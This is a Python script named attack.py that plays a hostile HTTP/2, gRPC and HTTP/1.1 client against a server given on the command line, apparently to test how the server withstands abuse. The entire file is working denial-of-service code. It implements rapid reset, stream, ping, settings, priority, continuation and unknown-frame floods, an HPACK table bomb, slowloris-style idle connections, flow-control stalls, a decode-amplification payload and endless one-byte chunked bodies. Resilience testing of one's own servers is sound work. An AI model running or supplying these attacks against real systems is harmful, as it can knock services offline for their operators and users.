"""What a hostile client does, frame by frame: attack.py HOST:PORT NAME.
Prints one line: how it ended for it."""
import select
import socket
import struct
import sys
import time

HOST, PORT = sys.argv[1].rsplit(":", 1)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONT = 0, 1, 2, 3, 4, 6, 7, 8, 9


def connect():
    s = socket.create_connection((HOST, int(PORT)), 10)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    s.settimeout(10)
    return s


def frame(kind, flags, stream, body=b""):
    return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body


def literal(name, value):
    def string(s):
        if len(s) < 127:
            return bytes([len(s)]) + s
        n, out = len(s) - 127, b"\x7f"
        while n > 127:
            out += bytes([n & 127 | 128])
            n >>= 7
        return out + bytes([n]) + s
    return b"\x00" + string(name) + string(value)


def head(method="Slow", extra=b""):
    return (b"\x83\x86" + literal(b":path", b"/grpc.service.echo.Echo/" + method.encode()) +
            literal(b":authority", b"a") + literal(b"content-type", b"application/grpc") +
            literal(b"te", b"trailers") + extra)


def message(remote=b"60000"):
    body = b"\x12" + bytes([len(remote)]) + remote
    return struct.pack(">BI", 0, len(body)) + body


def start(settings=b""):
    s = connect()
    s.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return s


def goaway(data):
    """The error code of a GOAWAY in what was received, or None."""
    i = 0
    while i + 9 <= len(data):
        n = int.from_bytes(data[i:i + 3], "big")
        if data[i + 3] == GOAWAY and i + 17 <= len(data):
            code = int.from_bytes(data[i + 13:i + 17], "big")
            if code:
                return code
        i += 9 + n
    return None


def push(s, make, most, seconds=15):
    """Send make(i) until the other side has had enough; reads as well."""
    got, sent, out, end = b"", 0, b"", time.time() + seconds
    s.setblocking(False)
    try:
        while sent < most and time.time() < end:
            if not out:
                out = b"".join(make(i) for i in range(sent, min(sent + 50, most)))
                sent += 50
            r, w, _ = select.select([s], [s], [], 1)
            if r:
                b = s.recv(65536)
                if not b:
                    raise ConnectionResetError
                if len(got) < 1 << 22:
                    got += b
            if w:
                out = out[s.send(out):]
    except (BrokenPipeError, ConnectionResetError):
        code = goaway(got)
        print(f"closed after {sent} " + (f"goaway {code}" if code else "without a word"))
        return
    print(f"still open after {sent}")


def rapid_reset():
    def one(i):
        n = 2 * i + 1
        return (frame(HEADERS, 4, n, head()) + frame(DATA, 1, n, message()) +
                frame(RST, 0, n, struct.pack(">I", 8)))
    push(start(), one, 200000)


def rapid_open():
    """Streams that are never answered, more than there may be."""
    push(start(), lambda i: frame(HEADERS, 4, 2 * i + 1, head()) + frame(DATA, 1, 2 * i + 1, message()), 20000, 5)


def ping_flood():
    push(start(), lambda i: frame(PING, 0, 0, b"12345678"), 500000)


def settings_flood():
    push(start(), lambda i: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + i % 2)), 500000)


def priority_flood():
    push(start(), lambda i: frame(PRIORITY, 0, 2 * i + 1, struct.pack(">IB", 0, 1)), 500000)


def empty_data_flood():
    s = start()
    s.sendall(frame(HEADERS, 4, 1, head()))
    push(s, lambda i: frame(DATA, 0, 1), 500000)


def continuation_flood():
    s = start()
    s.sendall(frame(HEADERS, 0, 1, head()))
    push(s, lambda i: frame(CONT, 0, 1, literal(b"x-a", b"b" * 8000)), 100000)


def unknown_flood():
    push(start(), lambda i: frame(200, 0, 0, b"x" * 1000), 50000, 5)


def hpack_bomb():
    """A header of 4000 bytes in the table, and a thousand times its index."""
    name = b"\x40\x01x" + b"\x7f" + bytes([(4000 - 127) & 127 | 128, (4000 - 127) >> 7]) + b"v" * 4000

    def one(i):
        return frame(HEADERS, 5, 2 * i + 1, head(extra=name if i == 0 else b"") + b"\xbe" * 8000)
    push(start(), one, 5000, 8)


def loris():
    """Connections that say nothing, or half of what they should."""
    halves = [b"", PREFACE[:10], b"GET / HTTP/1.1\r\nhost: a\r\n", PREFACE[:3], b"\x16"]
    many = []
    for i in range(200):
        s = connect()
        s.sendall(halves[i % len(halves)])
        many.append(s)
    end, left = time.time() + 15, list(many)
    while left and time.time() < end:
        for s in select.select(left, [], [], 1)[0]:
            try:
                if not s.recv(4096):
                    left.remove(s)
            except ConnectionError:
                left.remove(s)
    print(f"{len(left)} of {len(many)} still open")


class Polite:
    """A connection that keeps to the windows it is given."""

    def __init__(self, settings=b""):
        self.s = start(settings)
        self.initial, self.conn, self.streams = 65535, 65535, {}
        self.text, self.got, self.sent, self.ended = b"", b"", 0, set()

    def read(self, seconds):
        if not select.select([self.s], [], [], seconds)[0]:
            return False
        b = self.s.recv(65536)
        if not b:
            raise ConnectionResetError
        self.got += b
        while len(self.got) >= 9:
            n = int.from_bytes(self.got[:3], "big")
            if len(self.got) < 9 + n:
                break
            self.frame(self.got[3], self.got[4], int.from_bytes(self.got[5:9], "big"), self.got[9:9 + n])
            self.got = self.got[9 + n:]
        return True

    def frame(self, kind, flags, stream, body):
        if kind == WINDOW:
            n = int.from_bytes(body, "big")
            if stream == 0:
                self.conn += n
            else:
                self.streams[stream] = self.streams.get(stream, 0) + n
        elif kind == SETTINGS and not flags & 1:
            for i in range(0, len(body), 6):
                key, value = struct.unpack(">HI", body[i:i + 6])
                if key == 4:
                    self.initial = value
            self.s.sendall(frame(SETTINGS, 1, 0))
        elif kind in (HEADERS, RST):
            self.text += body
            self.ended.add(stream)

    def data(self, stream, body, end, seconds=3):
        """False when its window stays shut, or the stream has ended."""
        at, stop = 0, time.time() + seconds
        while at < len(body):
            room = min(self.conn, self.initial + self.streams.get(stream, 0), 16384, len(body) - at)
            if stream in self.ended:
                return False
            if room <= 0:
                if time.time() > stop:
                    return False
                self.read(0.1)
                continue
            self.s.sendall(frame(DATA, 1 if end and at + room == len(body) else 0, stream, body[at:at + room]))
            self.conn -= room
            self.streams[stream] = self.streams.get(stream, 0) - room
            at, self.sent = at + room, self.sent + room
            self.read(0)
        return True


def parked():
    """Messages of 4 MiB that never come to their end, on many streams."""
    p, refused = Polite(), 0
    try:
        for i in range(200):
            n = 2 * i + 1
            p.s.sendall(frame(HEADERS, 4, n, head("Echo")))
            if not p.data(n, struct.pack(">BI", 0, 4 << 20) + b"x" * 1000000, False, 1):
                refused += 1
    except ConnectionError:
        pass
    print(f"sent {p.sent >> 20} MiB, {refused} refused")


def unread():
    """Answers of 3 MiB that are asked for and not read."""
    p = Polite(struct.pack(">HI", 4, 0))
    body = b"\x1a" + b"\x80\x80\xc0\x01" + b"x" * (3 << 20)
    asked = 0
    try:
        for i in range(40):
            n = 2 * i + 1
            p.s.sendall(frame(HEADERS, 4, n, head("Echo")))
            asked += p.data(n, struct.pack(">BI", 0, len(body)) + body, True)
    except ConnectionError:
        pass
    print(f"asked {asked}, {len(p.ended)} answered or reset")


def amplification():
    """4 MB of empty map entries, each of which is a struct when decoded."""
    p = Polite()
    body = b"\x12\x00" * ((4 << 20) // 2 - 100)
    p.s.sendall(frame(HEADERS, 4, 1, head("Meta")))
    done = p.data(1, struct.pack(">BI", 0, len(body)) + body, True, 10)
    end = time.time() + 10
    while 1 not in p.ended and time.time() < end:
        p.read(1)
    print("asked" if done else "not asked", "answered" if 1 in p.ended else "not answered")


def one_byte_chunks():
    """HTTP/1.1: a body a byte at a time, for ever."""
    s = connect()
    s.sendall(b"POST /echo HTTP/1.1\r\nhost: a\r\ntransfer-encoding: chunked\r\n\r\n")
    push(s, lambda i: b"1;" + b"e" * 1000 + b"\r\nx\r\n", 2000000, 30)


globals()[sys.argv[2]]()
